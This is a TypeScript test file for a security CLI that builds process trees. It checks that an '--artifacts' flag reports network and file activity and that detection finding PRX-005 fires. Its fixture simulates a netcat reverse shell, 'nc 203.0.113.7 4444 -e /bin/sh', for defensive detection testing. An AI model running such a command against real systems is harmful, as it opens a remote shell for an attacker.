/**
 * `--artifacts` on the command line: enrich adds counts to every line and everything on the exit
 * line, tree shows a one-line summary per process (json: a field), query answers carry them, and
 * `findings` turns them on for PRX-005 / PRX-006. Without the flag the output is unchanged.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { world } from '../../marbles/index.js';
import type { CliIo } from '../../src/cli/commands.js';
import { runCommand } from '../../src/cli/commands.js';
import { runCli } from '../../src/cli/runCli.js';

const S = 1_000_000_000n;

async function cli(args: readonly string[]): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  stdout.setEncoding('utf8').on('data', (c: string) => (out += c));
  stderr.setEncoding('utf8').on('data', (c: string) => (err += c));
  const io: CliIo = { stdin: new PassThrough(), stdout, stderr, env: {}, isTTY: { stdin: false, stdout: false, stderr: false }, signal: new AbortController().signal };
  const code = await runCli(args, io, { runner: runCommand, version: 'test' });
  await new Promise((r) => setImmediate(r));
  return { code, out, err };
}

let dir: string;
let capture: string;
let ncId: number;
let queries: string;

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'prx-artifacts-'));
  const w = world();
  const bash = w.process({ pid: 100, comm: 'bash', exe: '/usr/bin/bash' });
  const nc = w.fork(bash, { pid: 101, at: 1n * S });
  ncId = nc.child.entityId;
  const sh = w.fork(nc.child, { pid: 102, at: 3n * S });
  const events = [
    nc.event,
    w.exec(nc.child, { path: '/usr/bin/nc.openbsd', argv: ['nc', '203.0.113.7', '4444', '-e', '/bin/sh'], at: 1n * S + 1000n }),
    w.syscall(nc.child, 'openat', { args: { dirfd: -100, pathname: '/etc/hosts', flags: 'O_RDONLY|O_CLOEXEC', mode: 0 }, at: 2n * S - 1000n }),
    w.syscall(nc.child, 'connect', { args: { sockfd: 3, addr: { sa_family: 'AF_INET', sin_port: '4444', sin_addr: '203.0.113.7' } }, at: 2n * S }),
    sh.event,
    w.exec(sh.child, { path: '/usr/bin/dash', cmdpath: '/bin/sh', argv: ['sh'], at: 3n * S + 1000n }),
    w.exit(sh.child, { at: 4n * S }),
    w.exit(nc.child, { at: 5n * S }),
  ];
  capture = join(dir, 'revshell.ndjson');
  writeFileSync(capture, events.map((e) => e.raw).join('\n') + '\n');
  queries = join(dir, 'q.ndjson');
  writeFileSync(queries, `{"kind":"process","entityId":${ncId},"time":${w.epoch(2n * S - 1000n)}}\n{"kind":"lineage","entityId":${sh.child.entityId},"time":${w.epoch(3n * S + 1000n)},"maxDepth":1}\n`);
});

afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('--artifacts', () => {
  it('enrich: counts on each line, everything on the exit line; without the flag the lines are unchanged', async () => {
    const plain = await cli(['--quiet', capture]);
    const withArtifacts = await cli(['--quiet', '--artifacts', capture]);
    expect(plain.code).toBe(0);
    expect(withArtifacts.code).toBe(0);
    const a = withArtifacts.out.trim().split('\n').map((l) => JSON.parse(l) as { eventName: string; proctree: Record<string, unknown> });
    const p = plain.out.trim().split('\n').map((l) => JSON.parse(l) as { proctree: Record<string, unknown> });
    expect(p.every((l) => !('artifacts' in l.proctree))).toBe(true);
    const connect = a.find((l) => l.eventName === 'connect')!;
    expect(connect.proctree['artifacts']).toEqual({ counts: { files: 1, peers: 1, dns: 0, executions: 1, events: 0 } });
    const exit = a[a.length - 1]!;
    const all = (exit.proctree['artifacts'] as { all: { network: unknown[]; files: unknown[] } }).all;
    expect(all.network).toEqual([expect.objectContaining({ op: 'connect', address: '203.0.113.7', port: 4444, count: 1 })]);
    expect(all.files).toEqual([expect.objectContaining({ op: 'open', path: '/etc/hosts' })]);
    // the rest of each line is the same as without the flag
    const strip = (l: { proctree: Record<string, unknown> }) => ({ ...l, proctree: { ...l.proctree, artifacts: undefined } });
    expect(a.map(strip)).toEqual(p.map(strip));
  });

  it('tree: a one-line summary per process; json: an artifacts field', async () => {
    const text = await cli(['tree', '--quiet', '--artifacts', capture]);
    expect(text.out).toContain('nc.openbsd(101)  /usr/bin/nc.openbsd [exit 0]  — files 1, peers 203.0.113.7:4444');
    expect((await cli(['tree', '--quiet', capture])).out).not.toContain('peers');
    type Node = { pid: number; artifacts?: { network: unknown[] }; children: Node[] };
    const json = JSON.parse((await cli(['tree', '--quiet', '--artifacts', '--format', 'json', capture])).out) as Node[];
    const nc = json[0]!.children[0]!.children[0]!; // init → bash → nc
    expect(nc.pid).toBe(101);
    expect(nc.artifacts!.network).toHaveLength(1);
  });

  it('query: process and lineage answers carry artifacts as of the query time', async () => {
    const r = await cli(['query', '--quiet', '--artifacts', '--queries', queries, capture]);
    const [proc, lineage] = r.out.trim().split('\n').map((l) => JSON.parse(l) as Record<string, { artifacts?: { network: unknown[]; files: unknown[] } } | { artifacts?: { network: unknown[] } }[]>);
    const info = proc!['process_info'] as { artifacts: { network: unknown[]; files: unknown[] } };
    expect(info.artifacts.files).toHaveLength(1);
    expect(info.artifacts.network).toEqual([]); // the connect came after the query time
    const chain = lineage!['process_lineage'] as { artifacts?: { network: unknown[] } }[];
    expect(chain[1]!.artifacts!.network).toHaveLength(1);
  });

  it('findings: the default set turns artifacts on and PRX-005 fires', async () => {
    const r = await cli(['findings', '--quiet', capture]);
    expect(r.code).toBe(0);
    const ids = r.out.trim().split('\n').map((l) => (JSON.parse(l) as { SigMetadata: { ID: string } }).SigMetadata.ID);
    expect(ids).toEqual(['PRX-005']);
  });
});
